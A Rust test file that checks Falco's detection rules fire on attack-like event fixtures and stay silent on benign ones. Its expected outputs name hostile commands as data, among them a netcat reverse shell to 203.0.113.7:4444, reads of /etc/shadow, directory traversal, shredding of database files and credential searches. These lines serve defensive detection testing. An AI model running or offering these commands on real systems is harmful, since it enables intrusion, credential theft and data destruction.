//! Every rule of Falco's stable ruleset against a positive and a negative
//! event fixture, written as our sensors emit events (`--stdout`, one JSON
//! object a line): the positive must fire the rule, the benign near-miss
//! must not.
//!
//! Fixtures live in `tests/fixtures/falco_rules/<rule-slug>.{positive,negative}.jsonl`.
//! The rule names come from Falco's file itself, so a rule added there
//! without fixtures fails this test.

mod support;

use std::{
    path::{Path, PathBuf},
    process::Command,
};

use serde_json::Value;

const FALCO_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/compat/falco-rules/falco_rules.yaml"
);

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/falco_rules");

/// Rules no event of ours can fire: the condition needs a field that our
/// event schema cannot carry. Their positive fixture is the closest event
/// we can write; the test asserts that it does not fire, so that this list
/// is updated the day the data arrives.
const KNOWN_UNMATCHABLE: &[(&str, &str)] = &[(
    "Contact K8S API Server From Container",
    "fd.sip.name: the macro k8s_api_server compares the server's DNS name with \
         kubernetes.default.svc.cluster.local; the agent does no DNS on the event path and \
         the schema has no field for a name, so fd.sip.name never has a value",
)];

/// What the rendered output of each rule's positive fixture must contain.
const EXPECTED_OUTPUT: &[(&str, &[&str])] = &[
    (
        "Debugfs Launched in Privileged Container",
        &[
            "process=debugfs",
            "command=debugfs -w /dev/sda1",
            "parent=bash",
        ],
    ),
    (
        "Directory traversal monitored file read",
        &[
            "file=/etc/passwd",
            "fileraw=../../../../../etc/passwd",
            "process=php-fpm8.2",
            "user=www-data",
        ],
    ),
    (
        "Read sensitive file trusted after startup",
        &["file=/etc/shadow", "process=nginx", "parent=nginx"],
    ),
    (
        "Read sensitive file untrusted",
        &["file=/etc/shadow", "process=cat", "command=cat /etc/shadow"],
    ),
    (
        "Run shell untrusted",
        &[
            "parent=nginx",
            "process=sh",
            "proc_exepath=/usr/bin/dash",
            "command=sh -c id; uname -a",
        ],
    ),
    (
        "System user interactive",
        &["user=www-data", "process=id", "terminal=34816"],
    ),
    (
        "Terminal shell in container",
        &["process=bash", "parent=containerd-shim", "terminal=34816"],
    ),
    (
        "Netcat Remote Code Execution in Container",
        &["process=nc", "command=nc 203.0.113.7 4444 -e /bin/sh"],
    ),
    (
        "Search Private Keys or Passwords",
        &["process=grep", "BEGIN RSA PRIVATE KEY"],
    ),
    (
        "Clear Log Activities",
        &["file=/var/log/auth.log", "process=bash", "evt_type=openat"],
    ),
    (
        "Remove Bulk Data from Disk",
        &["process=shred", "/var/lib/postgresql/data/base/16384/2619"],
    ),
    (
        "Create Symlink Over Sensitive Files",
        &["target=/etc/shadow", "linkpath=/tmp/.s", "process=ln"],
    ),
    (
        "Create Hardlink Over Sensitive Files",
        &["target=/etc/shadow", "linkpath=/tmp/.h", "process=ln"],
    ),
    (
        "Packet socket created in container",
        &["domain=AF_PACKET", "type=SOCK_RAW", "process=arpspoof"],
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        &[
            "connection=10.244.1.23:51234->203.0.113.7:4444",
            "fd.sip=203.0.113.7",
            "fd_type=ipv4",
            "process=bash",
        ],
    ),
    (
        "Linux Kernel Module Injection Detected",
        &[
            "module=/tmp/diamorphine.ko",
            "process=insmod",
            "res=SUCCESS",
        ],
    ),
    (
        "Detect release_agent File Container Escapes",
        &[
            "file=/tmp/cgrp/release_agent",
            "CAP_SYS_ADMIN",
            "process=sh",
        ],
    ),
    (
        "PTRACE attached to process",
        &["process=gdb", "command=gdb -p 4455", "evt_type=ptrace"],
    ),
    (
        "PTRACE anti-debug attempt",
        &["process=kdevtmpfsi", "evt_type=ptrace"],
    ),
    (
        "Find AWS Credentials",
        &["process=grep", "aws_secret_access_key", "proc_cwd=/"],
    ),
    (
        "Execution from /dev/shm",
        &["process=kinsing", "proc_cwd=/dev/shm/", "command=kinsing"],
    ),
    (
        "Drop and execute new binary in container",
        &[
            "proc_exe=/tmp/xmrig",
            "process=xmrig",
            "proc_exepath=/tmp/xmrig",
        ],
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        &[
            "connection=192.0.2.10:50522->203.0.113.50:443",
            "rport=443",
            "process=ssh",
        ],
    ),
    (
        "Fileless execution via memfd_create",
        &["proc_exepath=memfd:kworker", "parent=python3"],
    ),
];

/// `Directory traversal monitored file read` →
/// `directory-traversal-monitored-file-read`.
fn slug(rule: &str) -> String {
    let mut out = String::new();
    for c in rule.chars() {
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
    }
    out.trim_end_matches('-').to_owned()
}

/// The rule names of Falco's file, in order.
fn falco_rule_names() -> Vec<String> {
    let text = std::fs::read_to_string(FALCO_RULES).expect("Falco's stable rules");
    let items: Vec<serde_yaml::Value> = serde_yaml::from_str(&text).expect("a YAML list");
    items
        .iter()
        .filter_map(|item| item.get("rule")?.as_str().map(str::to_owned))
        .collect()
}

fn fixture(rule: &str, which: &str) -> PathBuf {
    Path::new(FIXTURES).join(format!("{}.{which}.jsonl", slug(rule)))
}

/// The events of a fixture, each checked against the published schema.
fn read_events(path: &Path) -> Vec<Value> {
    let text =
        std::fs::read_to_string(path).unwrap_or_else(|e| panic!("fixture {}: {e}", path.display()));
    let events: Vec<Value> = text
        .lines()
        .filter(|l| !l.trim().is_empty())
        .enumerate()
        .map(|(i, line)| {
            serde_json::from_str(line)
                .unwrap_or_else(|e| panic!("{}:{}: not JSON: {e}", path.display(), i + 1))
        })
        .collect();
    assert!(!events.is_empty(), "{}: no events", path.display());
    support::assert_schema_valid(&events);
    events
}

/// The violations `guardrails rules test` prints for a file of events.
fn violations(events: &Path) -> Vec<Value> {
    let output = Command::new(env!("CARGO_BIN_EXE_guardrails"))
        .args(["rules", "test", "--rules", FALCO_RULES, "--events"])
        .arg(events)
        .output()
        .expect("runs guardrails");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "guardrails rules test --events {}: {}\n{stderr}",
        events.display(),
        output.status
    );
    let stdout = String::from_utf8(output.stdout).expect("UTF-8 output");
    stdout
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|line| serde_json::from_str::<Value>(line).expect("each line is a JSON event"))
        .inspect(|v| assert_eq!(v["kind"], "violation", "{v}"))
        .collect()
}

/// The violations of `rule` among `all`.
fn of_rule<'a>(all: &'a [Value], rule: &str) -> Vec<&'a Value> {
    all.iter()
        .filter(|v| v["violation"]["rule"] == rule)
        .collect()
}

fn unmatchable(rule: &str) -> Option<&'static str> {
    KNOWN_UNMATCHABLE
        .iter()
        .find(|(name, _)| *name == rule)
        .map(|(_, why)| *why)
}

#[test]
fn every_falco_rule_fires_on_its_positive_fixture_and_not_on_its_negative() {
    let rules = falco_rule_names();
    assert_eq!(rules.len(), 25, "Falco's stable ruleset has 25 rules");
    let listed = KNOWN_UNMATCHABLE
        .iter()
        .map(|(name, _)| *name)
        .chain(EXPECTED_OUTPUT.iter().map(|(name, _)| *name));
    for name in listed {
        assert!(rules.iter().any(|r| r == name), "no rule named {name:?}");
    }
    let mut failures = Vec::new();
    for rule in &rules {
        let positive = fixture(rule, "positive");
        let negative = fixture(rule, "negative");
        read_events(&positive);
        read_events(&negative);

        let fired = violations(&positive);
        let fired = of_rule(&fired, rule);
        match unmatchable(rule) {
            Some(why) => {
                if !fired.is_empty() {
                    failures.push(format!(
                        "{rule}: listed as unmatchable ({why}) but its positive fixture fires it: \
                         remove it from KNOWN_UNMATCHABLE"
                    ));
                }
            }
            None => {
                if fired.is_empty() {
                    failures.push(format!("{rule}: its positive fixture does not fire it"));
                    continue;
                }
                let expected = EXPECTED_OUTPUT
                    .iter()
                    .find(|(name, _)| name == rule)
                    .map_or(&[][..], |(_, e)| *e);
                if expected.is_empty() {
                    failures.push(format!("{rule}: no expected output listed"));
                }
                let outputs: Vec<&str> = fired
                    .iter()
                    .map(|v| v["violation"]["output"].as_str().unwrap_or_default())
                    .collect();
                if !outputs
                    .iter()
                    .any(|output| expected.iter().all(|want| output.contains(want)))
                {
                    failures.push(format!(
                        "{rule}: no output has all of {expected:?}: {outputs:#?}"
                    ));
                }
                for v in &fired {
                    assert!(v["violation"]["priority"].is_string(), "{rule}: {v}");
                }
            }
        }

        let negatives = violations(&negative);
        if !of_rule(&negatives, rule).is_empty() {
            failures.push(format!("{rule}: its negative fixture fires it"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn rule_names_have_distinct_slugs() {
    let rules = falco_rule_names();
    let mut slugs: Vec<String> = rules.iter().map(|r| slug(r)).collect();
    slugs.sort();
    slugs.dedup();
    assert_eq!(slugs.len(), rules.len());
    assert_eq!(
        slug("Redirect STDOUT/STDIN to Network Connection in Container"),
        "redirect-stdout-stdin-to-network-connection-in-container"
    );
}
